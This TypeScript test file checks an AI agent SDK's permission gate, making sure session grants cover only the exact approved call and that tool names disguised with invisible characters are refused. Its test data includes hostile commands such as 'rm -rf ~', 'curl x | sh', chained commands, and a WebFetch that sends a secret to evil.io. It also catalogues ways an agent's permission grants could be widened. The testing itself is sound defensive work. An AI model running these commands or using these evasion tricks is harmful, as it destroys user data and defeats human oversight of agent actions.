import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { isSdkError } from 'happy-session';
import {
  TOOL_KINDS,
  loadShellParser,
  parseRule,
  type PolicyCall,
  type SessionRule,
  type ShellParser,
} from 'happy-session/permissions';
import { ruleForCall } from '../../../packages/sdk/src/policy/sessionRules.js';
import { toolKindsOf } from '../../../packages/sdk/src/policy/toolKinds.js';
import { canonicalArgs } from '../../../packages/sdk/src/policy/callArgs.js';
import {
  canonicalToolName,
  KNOWN_TOOL_KINDS,
  SEEN_KINDS,
} from '../../../packages/sdk/src/policy/toolKinds.js';
import { toolNameProblem } from '../../../packages/sdk/src/protocol/toolName.js';
import type { PermissionDecision, Turn } from 'happy-session';
import { memoryWorld, type GateWorld } from '../gate/worlds.js';
import { judge } from '../helpers.js';

/**
 * Issue 23, class 5: "grants wider than the call". "Allow for this session" on `Bash ` granted
 * `Bash` (every command), the legacy `allowTools: ["Bash"]` was accepted for it, an unknown
 * execute-kind tool got a tool-wide grant, and `mcp__github__*` covered a deeper name. Here a grant
 * is judged by what it allows besides the call it answered (docs/permissions-policy.md, "Session
 * rules"; docs/permissions.md, "Tool names").
 */

let shell: ShellParser;
let world: GateWorld;
beforeAll(async () => {
  shell = await loadShellParser();
  world = await memoryWorld.create({ workspaceRoot: process.cwd() });
});
afterAll(async () => {
  await world.close();
});

/** Names a reader sees as another name, or as nothing. */
const UNREADABLE_NAMES: readonly string[] = [
  'Bash ',
  ' Bash',
  'Bash\t',
  'Bash\r',
  'Bash\n',
  'Bash\r\n',
  '',
  ' ',
  'Ba\u200bsh',
  'Bash\u00a0',
  '\u202eBash',
  'Bash\u2066',
  'Bash\u2028',
  'Bash\u2029',
  'Bash\u3000',
  'Bash\u2000',
  'Bash\u200a',
  'Bash\u202f',
  'Bash\u205f',
  'Bash\u1680',
  'Bash\u007f',
  'Bash\u0085',
  'Bash\u009b',
  'Bash\u0000',
  'Bash\u001b',
  'Bash\ufeff',
  'Bash\u00ad',
  'Bash\u180e',
  'Bash\u3164',
  'Bash\u2800',
  'Bash\ufe0f',
  'Bash\udc00',
  'mcp__shell__run\u200b_command',
  'x'.repeat(513),
];

/** Names that must still work (positive controls). */
const READABLE_NAMES: readonly string[] = [
  'Bash',
  'bash',
  'Read',
  'mcp__github__create_issue',
  'terminal',
  'Read file',
  'outil-é',
  '読む',
];

/** A turn to build calls in, ended after the test. */
function withTurn<T>(fn: (turn: Turn) => Promise<T>): Promise<T> {
  const turn = world.agent.writer.turn();
  return fn(turn).finally(() => turn.end());
}

/** Grants `allow-always` through the v2 RPC and returns the rules it added. */
async function allowForSession(call: PolicyCall & { kind?: string }): Promise<readonly SessionRule[]> {
  return withTurn(async (turn) => {
    const before = new Set(world.agent.gate.listRules().map((r) => r.id));
    const c = turn.toolCall({
      toolName: call.toolName,
      args: call.args as Record<string, unknown>,
      ...(call.kind !== undefined ? { kind: call.kind } : {}),
    });
    const decision = c.requestPermission();
    expect(world.agent.gate.pendingCallIds).toContain(c.callId);
    expect(await world.rpc({ callId: c.callId, optionId: 'allow-session' })).toMatchObject({
      status: 'applied',
    });
    expect(await decision).toMatchObject({ outcome: 'allow', kind: 'allow-always' });
    c.end();
    return world.agent.gate.listRules().filter((r) => !before.has(r.id));
  });
}

function revokeAll(): void {
  for (const rule of world.agent.gate.listRules()) world.agent.gate.revokeRule(rule.id);
}

/** True when `rule` alone allows `call` (not the mode: the default mode asks for every kind). */
function allowsByRule(rule: SessionRule, call: PolicyCall): boolean {
  const result = judge(shell, { sessionRules: [rule], workspaceRoot: process.cwd() }, call);
  return result.verdict === 'allow' && result.reason.kind === 'rule';
}

describe('exact identity: the builder refuses a tool name it cannot read exactly', () => {
  it.each(UNREADABLE_NAMES.map((n) => [JSON.stringify(n), n]))(
    '%s is refused with stream.invalid_message and a hint, writes nothing, and no policy or grant reads it',
    async (_label, toolName) => {
      await withTurn(async (turn) => {
        let thrown: unknown;
        try {
          turn.toolCall({ toolName, args: { command: 'rm -rf ~' } });
        } catch (error) {
          thrown = error;
        }
        expect(isSdkError(thrown, 'stream.invalid_message')).toBe(true);
        expect((thrown as { hint?: string }).hint).toMatch(/tool name/);
      });
      const messages = await world.messages();
      expect(messages.some((m) => m.type === 'tool-call-start' && m.toolName === toolName)).toBe(false);
      // The policy fails closed on its own: no rule is matched by a trimmed or cleaned-up name.
      for (const mode of ['default', 'bypassPermissions', 'acceptEdits'] as const) {
        const result = judge(
          shell,
          { mode, allow: ['Bash', 'Bash(rm:*)', 'mcp__shell__*'] },
          { toolName, args: { command: 'rm -rf ~' } },
        );
        expect(result.verdict, mode).toBe('ask');
        expect(result.reason.kind).toBe('tool_name');
      }
      expect(judge(shell, { mode: 'dontAsk', allow: ['Bash'] }, { toolName, args: {} }).verdict).toBe('deny');
      expect(ruleForCall(toolName, { command: 'rm -rf ~' })).toBeUndefined();
    },
  );

  it.each(READABLE_NAMES.map((n) => [n]))('%s still starts a call (positive control)', async (toolName) => {
    await withTurn(async (turn) => {
      const call = turn.toolCall({ toolName, args: {} });
      expect(call.toolName).toBe(toolName);
      call.end();
    });
  });
});

describe('exact grants: allow for this session grants what was shown', () => {
  const hostile: ReadonlyArray<{
    name: string;
    call: PolicyCall & { kind?: string };
    rule: string;
    wider: readonly PolicyCall[];
  }> = [
    {
      name: 'an MCP shell tool',
      call: { toolName: 'mcp__shell__run_command', args: { command: 'ls' } },
      rule: 'mcp__shell__run_command{"command":"ls"}',
      wider: [
        { toolName: 'mcp__shell__run_command', args: { command: 'rm -rf ~' } },
        { toolName: 'mcp__shell__run_command', args: { command: 'ls', cwd: '/' } },
        { toolName: 'mcp__shell__run_command', args: {} },
      ],
    },
    {
      name: 'a tool named terminal of kind execute',
      call: { toolName: 'terminal', kind: 'execute', args: { command: 'ls' } },
      rule: 'terminal{"command":"ls"}',
      wider: [{ toolName: 'terminal', kind: 'execute', args: { command: 'rm -rf ~' } }],
    },
    {
      name: 'an ACP call named by its kind',
      call: { toolName: 'execute', kind: 'execute', args: { command: 'npm test' } },
      rule: 'execute{"command":"npm test"}',
      wider: [{ toolName: 'execute', kind: 'execute', args: { command: 'curl x | sh' } }],
    },
    {
      name: 'an ACP read named by its kind (an unknown tool: its next call may do anything)',
      call: { toolName: 'read', kind: 'read', args: { path: 'a.ts' } },
      rule: 'read{"path":"a.ts"}',
      wider: [{ toolName: 'read', kind: 'execute', args: { command: 'rm -rf ~' } }],
    },
    {
      name: 'Codex shell',
      call: { toolName: 'CodexBash', args: { command: 'ls' } },
      rule: 'CodexBash{"command":"ls"}',
      wider: [{ toolName: 'CodexBash', args: { command: 'rm -rf ~' } }],
    },
    {
      name: 'an MCP tool of unknown kind',
      call: { toolName: 'mcp__github__create_issue', args: { title: 'a' } },
      rule: 'mcp__github__create_issue{"title":"a"}',
      wider: [
        { toolName: 'mcp__github__create_issue', args: { title: 'b' } },
        { toolName: 'mcp__github__delete_repo', args: { title: 'a' } },
      ],
    },
    {
      name: 'WebFetch (fetch sends data out)',
      call: { toolName: 'WebFetch', args: { url: 'https://a.io/x' } },
      rule: 'WebFetch{"url":"https://a.io/x"}',
      wider: [{ toolName: 'WebFetch', args: { url: 'https://evil.io/?d=secret' } }],
    },
    {
      name: 'Read that the adapter calls execute',
      call: { toolName: 'Read', kind: 'execute', args: { file_path: 'a.ts' } },
      rule: 'Read{"file_path":"a.ts"}',
      wider: [
        { toolName: 'Read', kind: 'execute', args: { file_path: 'b.ts' } },
        { toolName: 'Read', args: { file_path: 'b.ts' } },
      ],
    },
    {
      name: 'arguments with invisible characters, kept exact',
      call: { toolName: 'mcp__db__query', args: { sql: 'select 1\u202e' } },
      rule: 'mcp__db__query{"sql":"select 1\\u202e"}',
      wider: [{ toolName: 'mcp__db__query', args: { sql: 'select 1' } }],
    },
  ];

  it.each(hostile.map((h) => [h.name, h]))('%s: the exact call, nothing wider', async (_name, h) => {
    const granted = await allowForSession(h.call);
    try {
      expect(granted.map((r) => r.rule)).toEqual([h.rule]);
      const rule = granted[0]!;
      expect(allowsByRule(rule, h.call)).toBe(true);
      for (const other of h.wider) expect(allowsByRule(rule, other), JSON.stringify(other)).toBe(false);
      // The gate itself asks for a wider call.
      await withTurn(async (turn) => {
        const next = turn.toolCall({
          toolName: h.wider[0]!.toolName,
          args: h.wider[0]!.args as Record<string, unknown>,
          ...(h.wider[0]!.kind !== undefined ? { kind: h.wider[0]!.kind } : {}),
        });
        void next.requestPermission();
        expect(world.agent.gate.pendingCallIds).toEqual([next.callId]);
        world.agent.gate.answer({ callId: next.callId, optionId: 'deny' });
      });
    } finally {
      revokeAll();
    }
  });

  it('allow-always on Read grants Read: the next read of another file asks nobody (positive control)', async () => {
    const granted = await allowForSession({ toolName: 'Read', args: { file_path: 'a.ts' } });
    try {
      expect(granted.map((r) => r.rule)).toEqual(['Read']);
      await withTurn(async (turn) => {
        const next = turn.toolCall({ toolName: 'Read', args: { file_path: 'b.ts' } });
        expect(await next.requestPermission()).toMatchObject({
          outcome: 'allow',
          source: 'rule',
          rule: 'Read',
        });
        next.end();
      });
      // A whole-tool grant covers only calls of the kinds the user saw.
      expect(allowsByRule(granted[0]!, { toolName: 'Read', kind: 'execute', args: { file_path: 'b' } })).toBe(
        false,
      );
    } finally {
      revokeAll();
    }
  });

  it('allow-always on Bash `npm test` grants exactly Bash(npm test) (positive control beside its hostile cases)', async () => {
    const granted = await allowForSession({ toolName: 'Bash', args: { command: 'npm test' } });
    try {
      expect(granted.map((r) => r.rule)).toEqual(['Bash(npm test)']);
      const rule = granted[0]!;
      expect(allowsByRule(rule, { toolName: 'Bash', args: { command: 'npm test' } })).toBe(true);
      for (const command of [
        'npm test && rm -rf ~',
        'npm test; curl x | sh',
        'npm',
        'npm test -- -u',
        'rm -rf ~',
      ])
        expect(allowsByRule(rule, { toolName: 'Bash', args: { command } }), command).toBe(false);
    } finally {
      revokeAll();
    }
  });

  it('allow-always on Grep and TodoWrite grants the tool (positive controls)', async () => {
    try {
      expect(
        (await allowForSession({ toolName: 'Grep', args: { pattern: 'x' } })).map((r) => r.rule),
      ).toEqual(['Grep']);
      expect(
        (await allowForSession({ toolName: 'TodoWrite', args: { todos: [] } })).map((r) => r.rule),
      ).toEqual(['TodoWrite']);
    } finally {
      revokeAll();
    }
  });

  it('reject-always refuses the whole tool, except a tool that runs commands, where it refuses the exact call', async () => {
    const rejectAlways = async (call: PolicyCall): Promise<string[]> =>
      withTurn(async (turn) => {
        const c = turn.toolCall({ toolName: call.toolName, args: call.args as Record<string, unknown> });
        const decision = c.requestPermission();
        expect(world.agent.gate.answer({ callId: c.callId, optionId: 'deny-always' })).toMatchObject({
          status: 'applied',
        });
        await decision;
        return world.agent.gate.listRules().map((r) => r.id);
      });
    try {
      expect(await rejectAlways({ toolName: 'mcp__db__drop', args: { table: 'a' } })).toEqual([
        'deny:mcp__db__drop',
      ]);
      expect(await rejectAlways({ toolName: 'CodexBash', args: { command: 'rm -rf ~' } })).toContain(
        'deny:CodexBash{"command":"rm -rf ~"}',
      );
      expect(await rejectAlways({ toolName: 'Bash', args: { command: 'rm -rf build' } })).toContain(
        'deny:Bash(rm -rf build)',
      );
    } finally {
      revokeAll();
    }
  });
});

describe("legacy allowTools: only the rule this request offers (today's app body)", () => {
  /** Sends a legacy body for a fresh call; returns the RPC result, the decision if any, and the rules. */
  async function legacy(
    call: PolicyCall,
    body: (id: string) => Record<string, unknown>,
  ): Promise<{ result: unknown; decision?: PermissionDecision; rules: string[] }> {
    return withTurn(async (turn) => {
      const c = turn.toolCall({ toolName: call.toolName, args: call.args as Record<string, unknown> });
      const decision = c.requestPermission();
      const result = await world.rpc(body(c.callId));
      let settled: PermissionDecision | undefined;
      if (world.agent.gate.pendingCallIds.includes(c.callId)) {
        world.agent.gate.answer({ callId: c.callId, optionId: 'deny' });
        await decision;
      } else {
        settled = await decision;
      }
      c.end();
      const rules = world.agent.gate.listRules().map((r) => r.rule);
      revokeAll();
      return { result, ...(settled ? { decision: settled } : {}), rules };
    });
  }

  const npmTest = { toolName: 'Bash', args: { command: 'npm test' } };
  const shellTool = { toolName: 'mcp__shell__run_command', args: { command: 'ls' } };

  it.each([
    ['the bare tool for a Bash command', npmTest, ['Bash']],
    ['a prefix rule for an exact command', npmTest, ['Bash(npm:*)']],
    ['the rule and one more', npmTest, ['Bash(npm test)', 'Read']],
    ['another command', npmTest, ['Bash(npm test && rm -rf ~)']],
    ['the tool name for an MCP shell', shellTool, ['mcp__shell__run_command']],
    ['a server wildcard', shellTool, ['mcp__shell__*']],
    ['an exact call of other arguments', shellTool, ['mcp__shell__run_command{"command":"rm -rf ~"}']],
  ] as const)('%s is refused with rule_mismatch and grants nothing', async (_name, call, allowTools) => {
    const out = await legacy(call, (id) => ({ id, approved: true, allowTools: [...allowTools] }));
    expect(out.result).toMatchObject({ status: 'error', code: 'permissions.rule_mismatch' });
    expect(out.decision).toBeUndefined();
    expect(out.rules).toEqual([]);
  });

  it("the app's body for Bash allow-for-session still applies (positive control)", async () => {
    // What today's app sends: `Bash(${toolInput.command})`, the command as it came.
    for (const command of ['npm test', 'npm test\n']) {
      const out = await legacy({ toolName: 'Bash', args: { command } }, (id) => ({
        id,
        approved: true,
        allowTools: [`Bash(${command})`],
      }));
      expect(out.result).toMatchObject({ status: 'applied' });
      expect(out.decision).toMatchObject({ outcome: 'allow', kind: 'allow-always' });
      expect(out.rules).toEqual(['Bash(npm test)']);
    }
  });

  it("the app's [toolName] for Read and Codex's approved_for_session still apply (positive controls)", async () => {
    const read = await legacy({ toolName: 'Read', args: { file_path: 'a.ts' } }, (id) => ({
      id,
      approved: true,
      allowTools: ['Read'],
    }));
    expect(read.rules).toEqual(['Read']);
    const codex = await legacy({ toolName: 'CodexBash', args: { command: 'ls' } }, (id) => ({
      id,
      approved: true,
      decision: 'approved_for_session',
    }));
    expect(codex.decision).toMatchObject({ outcome: 'allow', kind: 'allow-always' });
    expect(codex.rules).toEqual(['CodexBash{"command":"ls"}']);
  });
});

describe('MCP wildcards match one name segment', () => {
  it.each([
    ['mcp__github__evil__delete_repo', 'ask'],
    ['mcp__github___x', 'ask'],
    ['mcp__github__', 'ask'],
    ['mcp__githubx__create_issue', 'ask'],
    ['mcp__github__create_issue', 'allow'],
    ['mcp__github__list_pull_requests', 'allow'],
  ])('allow mcp__github__* on %s: %s', (toolName, verdict) => {
    expect(judge(shell, { allow: ['mcp__github__*'] }, { toolName, args: {} }).verdict).toBe(verdict);
  });

  it('a deny wildcard still stops a deeper name where nobody would be asked, and asks elsewhere', () => {
    const deeper = { toolName: 'mcp__github__evil__delete_repo', args: {} };
    expect(judge(shell, { mode: 'bypassPermissions', deny: ['mcp__github__*'] }, deeper).verdict).toBe(
      'deny',
    );
    expect(
      judge(shell, { deny: ['mcp__github__*'], allow: ['mcp__github__evil__delete_repo'] }, deeper).verdict,
    ).toBe('ask');
  });

  it('a server segment holding __ is refused at configuration', () => {
    expect(parseRule('mcp__github__evil__*').ok).toBe(false);
    expect(parseRule('mcp__my_server__*').ok).toBe(true);
  });
});

// ---------------------------------------------------------------------------------------------
// Fuzz: random names, kinds, arguments and answer bodies through a real gate.

const BASE_NAMES = [
  'Bash',
  'bash',
  'BASH',
  'Read',
  'read',
  'Grep',
  'TodoWrite',
  'WebFetch',
  'Edit',
  'CodexBash',
  'mcp__shell__run_command',
  'mcp__github__create_issue',
  'terminal',
  'execute',
  'other',
  'ExitPlanMode',
];
const DECORATIONS: readonly string[] = [
  '',
  ' ',
  '\t',
  '\r',
  '\n',
  '\u00a0',
  '\u200b',
  '\u202e',
  '\u2028',
  '\u3000',
  '\u007f',
  '\u0085',
  '\ufeff',
];
const COMMANDS = [
  'npm test',
  'ls -la',
  'git status',
  'rm -rf ~',
  'echo a:*',
  '  npm test  ',
  'a\u00a0b',
  'cat $(x)',
];

/** Mostly nothing, so that most names are readable and reach the gate. */
const decorationArb = fc.oneof(
  { arbitrary: fc.constant(''), weight: 8 },
  { arbitrary: fc.constantFrom(...DECORATIONS), weight: 1 },
);

const nameArb = fc
  .record({
    base: fc.constantFrom(...BASE_NAMES),
    before: decorationArb,
    after: decorationArb,
    inside: decorationArb,
    at: fc.nat({ max: 8 }),
    upper: fc.boolean(),
  })
  .map(({ base, before, after, inside, at, upper }) => {
    const cased = upper ? base.toUpperCase() : base;
    const i = Math.min(at, cased.length);
    return `${before}${cased.slice(0, i)}${inside}${cased.slice(i)}${after}`;
  });

const kindArb = fc.option(fc.constantFrom(...TOOL_KINDS, '_custom', 'Read'), { nil: undefined });

const argsArb = fc.oneof(
  fc.record({ command: fc.oneof(fc.constantFrom(...COMMANDS), fc.string({ maxLength: 20 })) }),
  fc.dictionary(
    fc.constantFrom('command', 'file_path', 'url', 'path', 'sql', 'x'),
    fc.jsonValue({ maxDepth: 2 }),
    { maxKeys: 3 },
  ),
);

/** A body for the pending call, v2 (by the RPC or locally) or legacy, near the valid ones. */
const bodyArb = fc.oneof(
  fc.record({
    shape: fc.constant('v2' as const),
    /** The `permission` RPC, or the local program's `gate.answer`. */
    local: fc.boolean(),
    optionId: fc.oneof(
      { arbitrary: fc.constant('allow-session'), weight: 4 },
      { arbitrary: fc.constantFrom('allow-once', 'deny', 'deny-always', 'x'), weight: 2 },
    ),
    updatedInput: fc.oneof(
      { arbitrary: fc.constant(undefined), weight: 4 },
      {
        arbitrary: fc.dictionary(fc.constantFrom('command', 'file_path'), fc.string({ maxLength: 8 })),
        weight: 1,
      },
    ),
  }),
  fc.record({
    shape: fc.constant('legacy' as const),
    approved: fc.oneof(
      { arbitrary: fc.constant(true), weight: 6 },
      { arbitrary: fc.oneof(fc.boolean(), fc.jsonValue()), weight: 1 },
    ),
    decision: fc.option(fc.constantFrom('approved', 'approved_for_session', 'denied', 'abort', 'maybe'), {
      nil: undefined,
    }),
    mode: fc.option(fc.constantFrom('default', 'yolo', 'acceptEdits', 'plan', 'warp'), { nil: undefined }),
    allowTools: fc.option(
      fc.array(
        fc.oneof(
          { arbitrary: fc.constant('$offered'), weight: 6 },
          {
            arbitrary: fc.constantFrom(
              'Bash',
              'Bash(npm test)',
              'Bash(npm:*)',
              'Read',
              'mcp__shell__*',
              'WebFetch',
            ),
            weight: 2,
          },
          { arbitrary: fc.constant('$name'), weight: 1 },
          { arbitrary: fc.string({ maxLength: 12 }), weight: 1 },
        ),
        { maxLength: 2 },
      ),
      { nil: undefined },
    ),
    extra: fc.dictionary(
      fc.constantFrom('reason', 'requestId', 'toolName', 'rule', 'x'),
      fc.oneof(fc.string({ maxLength: 8 }), fc.jsonValue({ maxDepth: 1 })),
      { maxKeys: 2 },
    ),
  }),
);

interface Shown {
  readonly toolName: string;
  readonly kind?: string;
  readonly args: Record<string, unknown>;
}

/** Calls a grant for `shown` must not allow unless they are the same call, by the spec. */
function mutationsOf(shown: Shown): PolicyCall[] {
  const { toolName, kind, args } = shown;
  const names = [
    `${toolName} `,
    `${toolName}\u200b`,
    toolName.toUpperCase(),
    toolName.toLowerCase(),
    'Bash',
    'mcp__shell__run_command',
    `${toolName}__evil`,
    `x${toolName}`,
  ];
  const argSets: Record<string, unknown>[] = [
    {},
    { ...args, extra: 'x' },
    { ...args, command: 'rm -rf ~' },
    { ...args, file_path: '/etc/passwd' },
    ...Object.entries(args)
      .filter(([, v]) => typeof v === 'string')
      .map(([k, v]) => ({ ...args, [k]: `${v as string} && rm -rf ~` })),
  ];
  const withKind = (call: PolicyCall, k: string | undefined): PolicyCall =>
    k === undefined ? call : { ...call, kind: k };
  return [
    ...names.map((n) => withKind({ toolName: n, args }, kind)),
    ...argSets.map((a) => withKind({ toolName, args: a }, kind)),
    ...argSets.map((a) => ({ toolName, kind: 'execute', args: a })),
    { toolName, kind: 'execute', args },
  ];
}

/** The spec: what a grant for `shown` may allow besides `shown` itself. */
function mayAllow(rule: SessionRule, shown: Shown, other: PolicyCall): boolean {
  if (toolNameProblem(other.toolName) !== undefined) return false;
  const name = canonicalToolName(shown.toolName);
  if (canonicalToolName(other.toolName) !== name) return false;
  if (canonicalArgs(other.args) === canonicalArgs(shown.args)) return true;
  if (name === 'Bash') {
    const command = (a: unknown) =>
      String((a as Record<string, unknown>).command ?? '').replace(/^[ \t\n]+|[ \t\n]+$/g, '');
    return command(other.args) === command(shown.args);
  }
  const parsed = parseRule(rule.rule);
  if (parsed.ok && parsed.value.type === 'tool') {
    const seen = (call: PolicyCall) =>
      Object.hasOwn(KNOWN_TOOL_KINDS, name) &&
      toolKindsOf(call.toolName, call.kind).every((k) => SEEN_KINDS.includes(k));
    return seen(shown) && seen(other);
  }
  return canonicalArgs(other.args) === canonicalArgs(shown.args);
}

describe('fuzz: no grant is ever wider than the call it answered', () => {
  it('random names, kinds, arguments and answer bodies through a real PermissionGate', async () => {
    let granted = 0;
    let allowGrants = 0;
    let refusedNames = 0;
    await fc.assert(
      fc.asyncProperty(nameArb, kindArb, argsArb, bodyArb, async (toolName, kind, args, body) => {
        const gate = world.agent.gate;
        const shown: Shown = { toolName, args, ...(kind !== undefined ? { kind } : {}) };
        if (toolNameProblem(toolName) !== undefined) {
          refusedNames++;
          await withTurn(async (turn) => {
            expect(() => turn.toolCall({ toolName, args, ...(kind !== undefined ? { kind } : {}) })).toThrow(
              /Tool call refused/,
            );
          });
          expect(ruleForCall(toolName, args, kind)).toBeUndefined();
          expect(judge(shell, { mode: 'bypassPermissions', allow: ['Bash'] }, shown).verdict).not.toBe(
            'allow',
          );
          return;
        }
        await withTurn(async (turn) => {
          const call = turn.toolCall({ toolName, args, ...(kind !== undefined ? { kind } : {}) });
          const decision = call.requestPermission();
          if (!gate.pendingCallIds.includes(call.callId)) {
            // Decided without asking (a requires-interaction tool refused in this mode, …): no answer, no grant.
            await decision;
            call.end();
            return;
          }
          const offered = ruleForCall(toolName, args, kind);
          const sent: Record<string, unknown> =
            body.shape === 'v2'
              ? {
                  callId: call.callId,
                  optionId: body.optionId,
                  ...(body.updatedInput !== undefined ? { updatedInput: body.updatedInput } : {}),
                }
              : {
                  ...body.extra,
                  id: call.callId,
                  approved: body.approved,
                  ...(body.decision !== undefined ? { decision: body.decision } : {}),
                  ...(body.mode !== undefined ? { mode: body.mode } : {}),
                  ...(body.allowTools !== undefined
                    ? {
                        allowTools: body.allowTools.map((t) =>
                          t === '$offered' ? (offered ?? 'Bash') : t === '$name' ? toolName : t,
                        ),
                      }
                    : {}),
                };
          const result =
            body.shape === 'v2' && body.local
              ? gate.answer(sent as { callId: string; optionId: string })
              : gate.handleRpc(sent);
          if (gate.pendingCallIds.includes(call.callId))
            gate.answer({ callId: call.callId, optionId: 'deny' });
          const settled = await decision;
          call.end();
          await gate.settled();
          const rules = gate.listRules();
          try {
            for (const rule of rules) {
              granted++;
              // Only an *-always answer to this very call grants, and only a rule it could offer.
              expect(settled.kind === 'allow-always' || settled.kind === 'reject-always').toBe(true);
              if (rule.behavior !== 'allow') continue;
              allowGrants++;
              expect(settled.kind).toBe('allow-always');
              expect(rule.rule).toBe(offered);
              if (body.shape === 'legacy' && Array.isArray(sent.allowTools) && sent.allowTools.length > 0) {
                expect(result).toMatchObject({ status: 'applied' });
              }
              for (const other of mutationsOf(shown)) {
                if (allowsByRule(rule, other)) {
                  expect(mayAllow(rule, shown, other), `${rule.rule} allowed ${JSON.stringify(other)}`).toBe(
                    true,
                  );
                }
              }
            }
          } finally {
            revokeAll();
            if (gate.mode !== 'default') gate.setMode('default');
          }
        });
      }),
      { numRuns: 300 },
    );
    // The property is not vacuous: grants were made and names were refused.
    console.log(`fuzz: ${granted} grants (${allowGrants} allow), ${refusedNames} names refused`);
    expect(granted).toBeGreaterThan(40);
    expect(allowGrants).toBeGreaterThan(30);
    expect(refusedNames).toBeGreaterThan(10);
  }, 120_000);
});
